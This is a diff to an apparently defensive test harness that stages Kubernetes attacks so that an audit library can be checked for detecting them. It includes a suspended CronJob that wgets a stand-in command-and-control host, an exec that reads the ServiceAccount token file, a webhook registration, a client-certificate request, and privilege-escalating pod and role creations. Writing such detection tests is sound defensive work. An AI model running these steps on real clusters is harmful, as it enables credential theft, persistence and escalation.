@@ -30,6 +30,7 @@ operator installed from manifests/ and running as its own ServiceAccount):
 from __future__ import annotations
 
 import argparse
+import base64
 import http.client
 import json
 import random
@@ -50,6 +51,10 @@ from typing import Any
 ROOT = Path(__file__).resolve().parent.parent
 sys.path[:0] = [str(ROOT), str(ROOT / "operator")]
 
+from cryptography import x509  # noqa: E402
+from cryptography.hazmat.primitives import hashes, serialization  # noqa: E402
+from cryptography.hazmat.primitives.asymmetric import ec  # noqa: E402
+from cryptography.x509.oid import NameOID  # noqa: E402
 from tests.fake_kubelet import FakeKubelet  # noqa: E402
 from tests.realcluster import (  # noqa: E402
     OPERATOR_NAMESPACE,
@@ -631,6 +636,78 @@ rules:
 """
 
 
+WEBHOOK = """
+apiVersion: admissionregistration.k8s.io/v1
+kind: ValidatingWebhookConfiguration
+metadata: {name: audit-helper}
+webhooks:
+  - name: audit-helper.example.com
+    clientConfig: {url: "https://hooks.example.invalid/validate"}
+    rules:
+      - operations: [CREATE]
+        apiGroups: [example.invalid]
+        apiVersions: [v1]
+        resources: [widgets]
+    sideEffects: None
+    admissionReviewVersions: [v1]
+    failurePolicy: Ignore
+"""
+"""A webhook on a resource that does not exist: registering it changes nothing else here."""
+
+CRONJOB = """
+apiVersion: batch/v1beta1
+kind: CronJob
+metadata: {name: beacon, namespace: shop}
+spec:
+  schedule: "0 0 1 1 *"
+  suspend: true
+  jobTemplate:
+    spec:
+      template:
+        spec:
+          restartPolicy: Never
+          containers: [{name: beacon, image: busybox, command: [wget, "http://c2.example.invalid"]}]
+"""
+"""batch/v1beta1: the API version of the 1.20 apiserver; suspended, so it never runs."""
+
+DAEMONSET = """
+apiVersion: apps/v1
+kind: DaemonSet
+metadata: {name: node-miner, namespace: shop}
+spec:
+  selector: {matchLabels: {app: node-miner}}
+  template:
+    metadata: {labels: {app: node-miner}}
+    spec:
+      nodeSelector: {auditwatch.example/none: "true"}
+      containers: [{name: miner, image: busybox, command: [sleep, "3600"]}]
+"""
+"""No node matches its selector: the DaemonSet is created, no pod is."""
+
+
+def client_certificate_request(user: str) -> str:
+    """A CertificateSigningRequest for a client certificate of the apiserver, as `user`."""
+    key = ec.generate_private_key(ec.SECP256R1())
+    request = (
+        x509.CertificateSigningRequestBuilder()
+        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, user)]))
+        .sign(key, hashes.SHA256())
+    )
+    pem = request.public_bytes(serialization.Encoding.PEM)
+    return json.dumps(
+        {
+            "apiVersion": "certificates.k8s.io/v1",
+            "kind": "CertificateSigningRequest",
+            "metadata": {"name": f"{user}-client"},
+            "spec": {
+                "request": base64.b64encode(pem).decode(),
+                "signerName": "kubernetes.io/kube-apiserver-client",
+                "usages": ["client auth"],
+            },
+        }
+    )
+
+
 def attacks(cluster: Cluster) -> list[tuple[str, Callable[[], object]]]:
     """Each attack the library is meant to catch, as a real call against the apiserver: who
     does it (the attacker `mallory`, a compromised ServiceAccount, anonymous, or the admin for
@@ -677,7 +754,15 @@ def attacks(cluster: Cluster) -> list[tuple[str, Callable[[], object]]]:
         )
         token = cluster.token("shop", "web-ops")
         cluster.kubectl(
-            "exec", "-n", "shop", NODE_POD, "--", "cat", "/etc/passwd", token=token, check=False
+            "exec",
+            "-n",
+            "shop",
+            NODE_POD,
+            "--",
+            "cat",
+            "/var/run/secrets/kubernetes.io/serviceaccount/token",
+            token=token,
+            check=False,
         )
 
     def port_forward() -> None:
@@ -704,6 +789,11 @@ def attacks(cluster: Cluster) -> list[tuple[str, Callable[[], object]]]:
         connection.request("GET", "/api/v1/namespaces/shop/pods")
         connection.getresponse().read()
 
+    def copy_out() -> None:
+        """kubectl cp from the pod: an exec of `tar cf - /etc/hostname`."""
+        target = cluster.root / "copied-hostname"
+        mallory("cp", f"shop/{NODE_POD}:/etc/hostname", str(target))
+
     return [
         (
             "mallory gets cluster-admin",
@@ -720,6 +810,7 @@ def attacks(cluster: Cluster) -> list[tuple[str, Callable[[], object]]]:
         ("anonymous access granted and used", anonymous_access),
         ("exec into a pod (WebSocket refused, then SPDY)", exec_allowed_create_only),
         ("attach to a pod", lambda: mallory("attach", "-n", "shop", NODE_POD)),
+        ("kubectl cp out of a pod", copy_out),
         ("port-forward to a pod", port_forward),
         (
             "privileged pod",
@@ -771,6 +862,36 @@ def attacks(cluster: Cluster) -> list[tuple[str, Callable[[], object]]]:
             "Role that may exec",
             lambda: mallory(
                 "create", "role", "exec", "-n", "shop", "--verb=create", "--resource=pods/exec"
+            ),
+        ),
+        (
+            "ClusterRole granting nodes/proxy",
+            lambda: mallory(
+                "create", "clusterrole", "node-proxy", "--verb=get", "--resource=nodes/proxy"
+            ),
+        ),
+        (
+            "admission webhook registered, then removed",
+            lambda: (
+                mallory("apply", "-f", "-", input=WEBHOOK),
+                mallory("delete", "validatingwebhookconfiguration", "audit-helper"),
+            ),
+        ),
+        (
+            "client certificate requested",
+            lambda: mallory("apply", "-f", "-", input=client_certificate_request("mallory")),
+        ),
+        ("CronJob created", lambda: mallory("apply", "-f", "-", input=CRONJOB)),
+        ("DaemonSet created", lambda: mallory("apply", "-f", "-", input=DAEMONSET)),
+        (
+            "pod adding SYS_ADMIN",
+            lambda: mallory(
+                "apply",
+                "-f",
+                "-",
+                input=pod(
+                    "capadmin", security="securityContext: {capabilities: {add: [SYS_ADMIN]}}"
+                ),
             ),
         ),
         (
